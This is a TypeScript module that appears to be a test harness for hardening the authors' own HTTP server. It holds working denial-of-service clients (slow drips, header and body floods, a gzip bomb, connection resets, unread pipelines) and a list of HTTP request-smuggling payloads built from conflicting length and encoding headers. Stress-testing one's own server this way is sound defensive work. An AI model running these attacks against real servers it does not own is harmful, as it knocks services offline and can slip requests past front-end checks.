/**
 * Clients that abuse an HTTP server: drips, floods, bombs, resets, pipelines whose answers are not read, and requests that two
 * servers would read differently. Each attack ends by itself; what it leaves behind is for the caller to measure.
 */
import { connect, type Socket } from "node:net"
import { gzipSync } from "node:zlib"

/** A server, and a key of it that may submit orders. */
export interface Target {
  readonly host: string
  readonly port: number
  readonly key: string
}

export type Attack = (target: Target) => Promise<void>

/** Connections of an attack that are open at once. */
const connections = 50

const chunk = Buffer.alloc(65_536, 97)
const pause = (ms: number) => new Promise<void>((resolve) => void setTimeout(resolve, ms)) // oxlint-disable-line eslint/no-restricted-globals

const head = (target: Target, line: string, ...headers: ReadonlyArray<string>): string =>
  [line, `Host: ${target.host}:${target.port}`, `Authorization: Bearer ${target.key}`, ...headers, "", ""].join("\r\n")

const order = (target: Target, ...headers: ReadonlyArray<string>): string =>
  head(target, "POST /v1/orders HTTP/1.1", "Content-Type: application/json", ...headers)

const opened = ({ host, port }: Target): Promise<Socket> =>
  new Promise((resolve) => {
    const socket = connect(port, host, () => resolve(socket))
    // Being cut off is what is asked for.
    socket.on("error", () => resolve(socket))
  })

/** As many connections as are open at once, each treated so and then destroyed. */
const each = async (target: Target, treat: (socket: Socket) => Promise<void>): Promise<void> => {
  await Promise.all(Array.from({ length: connections }, async () => {
    const socket = await opened(target)
    await treat(socket)
    socket.destroy()
  }))
}

const closed = (socket: Socket): Promise<void> =>
  socket.destroyed ? Promise.resolve() : new Promise((resolve) => void socket.once("close", () => resolve()))

/** Writes `piece` until the other end closes, at most 32 MiB. */
const flood = async (socket: Socket, piece: Buffer): Promise<void> => {
  const ended = closed(socket)
  socket.resume()
  let sent = 0
  while (!socket.destroyed && sent < 32 * 1024 * 1024) {
    sent += piece.length
    if (!socket.write(piece)) {
      await Promise.race([ended, new Promise((resolve) => void socket.once("drain", resolve))])
    }
  }
}

/** Writes the text a few bytes at a time. */
const drip = async (socket: Socket, text: string): Promise<void> => {
  socket.resume()
  for (let at = 0; at < text.length && !socket.destroyed; at += 4) {
    socket.write(text.slice(at, at + 4))
    await pause(5)
  }
}

const chunked = Buffer.concat([Buffer.from(`${chunk.length.toString(16)}\r\n`), chunk, Buffer.from("\r\n")])

/** The attacks by name. */
export const attacks: Readonly<Record<string, Attack>> = {
  "drip-head": (target) => each(target, (socket) => drip(socket, order(target, `X-Long: ${"a".repeat(200)}`))),
  "drip-body": (target) =>
    each(target, async (socket) => {
      socket.write(order(target, "Content-Length: 1000000"))
      socket.write(chunk)
      await drip(socket, "a".repeat(200))
    }),
  "flood-head": (target) =>
    each(target, async (socket) => {
      socket.write(`GET / HTTP/1.1\r\nHost: ${target.host}\r\nX-Long: `)
      await flood(socket, chunk)
    }),
  "flood-headers": (target) =>
    each(target, async (socket) => {
      socket.write(`GET / HTTP/1.1\r\nHost: ${target.host}\r\n`)
      await flood(socket, Buffer.from("X-Many: a\r\n".repeat(1000)))
    }),
  "flood-body": (target) =>
    each(target, async (socket) => {
      socket.write(order(target, "Content-Length: 10000000000"))
      await flood(socket, chunk)
    }),
  "flood-chunks": (target) =>
    each(target, async (socket) => {
      socket.write(order(target, "Transfer-Encoding: chunked"))
      await flood(socket, chunked)
    }),
  "flood-without-key": (target) =>
    each(target, async (socket) => {
      socket.write(order({ ...target, key: "not-a-key-of-the-server" }, "Transfer-Encoding: chunked"))
      await flood(socket, chunked)
    }),
  "flood-callback": (target) =>
    each(target, async (socket) => {
      const line = "POST /v1/callbacks/unknown HTTP/1.1"
      socket.write(head(target, line, "Content-Type: application/json", "Transfer-Encoding: chunked"))
      await flood(socket, chunked)
    }),
  "bomb": async (target) => {
    const bomb = gzipSync(Buffer.alloc(100 * 1024 * 1024, 97))
    await each(target, async (socket) => {
      socket.write(order(target, "Content-Encoding: gzip", `Content-Length: ${bomb.length}`))
      await flood(socket, bomb)
    })
  },
  "reset-mid-head": (target) =>
    each(target, async (socket) => {
      socket.write(order(target, "Content-Length: 100").slice(0, 50))
      await pause(20)
      socket.resetAndDestroy()
    }),
  "reset-mid-body": (target) =>
    each(target, async (socket) => {
      socket.write(order(target, "Content-Length: 1000000"))
      socket.write(chunk)
      await pause(20)
      socket.resetAndDestroy()
    }),
  "reset-while-answered": (target) =>
    each(target, async (socket) => {
      socket.write(head(target, "GET /openapi.json HTTP/1.1"))
      await pause(5)
      socket.resetAndDestroy()
    }),
  "pipeline": (target) =>
    each(target, async (socket) => {
      socket.pause().write(head(target, "GET /openapi.json HTTP/1.1").repeat(2000))
      await Promise.race([closed(socket), pause(1000)])
    }),
  "never-reads": (target) =>
    each(target, async (socket) => {
      socket.pause().write(head(target, "GET /openapi.json HTTP/1.1").repeat(20))
      await pause(500)
    })
}

/** A request that two servers may read differently, followed by one that only a misled server would find in it. */
export interface Smuggled {
  readonly name: string
  /** `PREFIX` is replaced by the second request. */
  readonly bytes: string
}

const post = "POST /v1/orders HTTP/1.1\r\nHost: HOST\r\nContent-Type: application/json\r\nAuthorization: Bearer KEY\r\n"

/** Requests of which a strict server answers one at most, with a refusal, before it closes the connection. */
export const smuggled: ReadonlyArray<Smuggled> = [
  ["both lengths", "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nPREFIX"],
  ["both lengths, the other way", "Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\nPREFIX"],
  ["two lengths", "Content-Length: 2\r\nContent-Length: 3\r\n\r\n{}PREFIX"],
  ["two equal lengths", "Content-Length: 2\r\nContent-Length: 2\r\n\r\n{}PREFIX"],
  ["a list of lengths", "Content-Length: 2, 2\r\n\r\n{}PREFIX"],
  ["a length with a sign", "Content-Length: +2\r\n\r\n{}PREFIX"],
  ["a negative length", "Content-Length: -2\r\n\r\n{}PREFIX"],
  ["a length in hexadecimal", "Content-Length: 0x2\r\n\r\n{}PREFIX"],
  ["a length beyond 64 bits", "Content-Length: 18446744073709551618\r\n\r\n{}PREFIX"],
  ["a space before the colon", "Transfer-Encoding : chunked\r\n\r\n0\r\n\r\nPREFIX"],
  ["a coding that is none", "Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\nPREFIX"],
  ["two codings", "Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\nPREFIX"],
  ["two coding headers", "Transfer-Encoding: chunked\r\nTransfer-Encoding: x\r\n\r\n0\r\n\r\nPREFIX"],
  ["a folded coding", "Transfer-Encoding:\r\n chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\nPREFIX"],
  ["a chunk size that is none", "Transfer-Encoding: chunked\r\n\r\nG\r\n\r\nPREFIX"],
  ["a chunk size with a sign", "Transfer-Encoding: chunked\r\n\r\n+2\r\n{}\r\n0\r\n\r\nPREFIX"],
  ["a chunk size beyond 64 bits", "Transfer-Encoding: chunked\r\n\r\n10000000000000002\r\n{}\r\n0\r\n\r\nPREFIX"],
  ["a chunk without its end", "Transfer-Encoding: chunked\r\n\r\n2\r\n{}X\r\n0\r\n\r\nPREFIX"],
  ["bare line feeds", "Content-Length: 2\n\n{}PREFIX"],
  ["bare line feeds in chunks", "Transfer-Encoding: chunked\r\n\r\n2\n{}\n0\n\nPREFIX"],
  ["a bare carriage return", "X-A: b\rContent-Length: 2\r\n\r\n{}PREFIX"],
  ["a NUL in a header", "X-A: b\0c\r\nContent-Length: 2\r\n\r\n{}PREFIX"],
  ["a header without a colon", "Content-Length\r\n\r\n{}PREFIX"],
  ["a header without a name", ": x\r\nContent-Length: 2\r\n\r\n{}PREFIX"]
].map(([name = "", rest = ""]) => ({ name, bytes: post + rest }))

/** All that the server answers to the bytes, until it closes or `patience` milliseconds pass in silence. */
export const answersTo = async (target: Target, bytes: string, prefix: string, patience = 2000): Promise<string> => {
  const socket = await opened(target)
  let answered = ""
  socket.setTimeout(patience, () => socket.destroy())
  socket.on("data", (data) => void (answered += data.toString("latin1")))
  const filled = bytes.replace("HOST", `${target.host}:${target.port}`).replace("KEY", target.key)
  socket.write(Buffer.from(filled.replace("PREFIX", prefix), "latin1"))
  await closed(socket)
  return answered
}

/**
 * The URL of a module for `node --import`: at each SIGWINCH the process collects garbage and prints `in use: <n> bytes`, of
 * its heap and its buffers.
 */
export const memoryReporter: string = `data:text/javascript,${
  encodeURIComponent(`
  import { setFlagsFromString } from "node:v8"
  import { runInNewContext } from "node:vm"
  setFlagsFromString("--expose-gc")
  const collect = runInNewContext("gc")
  process.on("SIGWINCH", () => {
    collect()
    setImmediate(() => {
      collect()
      const { arrayBuffers, external, heapUsed } = process.memoryUsage()
      console.log("in use: " + (heapUsed + Math.max(external, arrayBuffers)) + " bytes")
    })
  })`)
}`
